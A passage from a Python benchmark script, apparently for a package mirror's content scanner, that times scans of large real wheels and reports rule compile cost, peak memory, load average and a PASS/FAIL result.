          f"({compile_cost['traced_mib']:.2f} MiB of it Python objects), paid on the first scan"
          + (" (lazy)" if compile_cost["lazy"] else ""))
    print(f"  peak memory of this process (all scans): {peak:.0f} MiB")
    print(f"  load average: {' '.join(f'{x:.2f}' for x in os.getloadavg())} on {os.cpu_count()} CPUs")
    results["peak_mib"] = peak
    results["loadavg"] = os.getloadavg()
    if args.json:
        args.json.write_text(json.dumps(results, indent=2, default=str))
    print("\nresult:", "PASS" if ok else "FAIL")
    return 0 if ok else 1


def speed_main(cache: Path, json_path: Path | None) -> int:
    """(d) alone: scan speed on big real wheels, with the rule cost and the load average."""
    if not public_index_reachable():
        print("scan speed on big real wheels: SKIPPED (public index unreachable)")
        return 0
    from mirror.content import default_rules

    cost = rules_cost()
    wheels = [w for w in (latest_wheel(p, cache) for p in SPEED_PROJECTS) if w is not None]
    load_before = os.getloadavg()
    rows = run_speed(wheels, default_rules())
    print_speed(rows)
    print(f"  rules: compiled on the first scan in {cost['seconds'] * 1000:.0f} ms, +{cost['rss_mib']:.1f} MiB RSS")
    print(f"  peak memory of this process: {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024:.0f} MiB")
    print(f"  load average: {' '.join(f'{x:.2f}' for x in load_before)} before, "
          f"{' '.join(f'{x:.2f}' for x in os.getloadavg())} after, on {os.cpu_count()} CPUs")
    if json_path:
        json_path.write_text(json.dumps({"speed": rows, "rules_cost": cost, "loadavg": os.getloadavg()}, indent=2))
    ok = all(r["import_time"]["identical"] for r in rows)
    print("\nresult:", "PASS" if ok else "FAIL (the module-level cut changed a result)")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
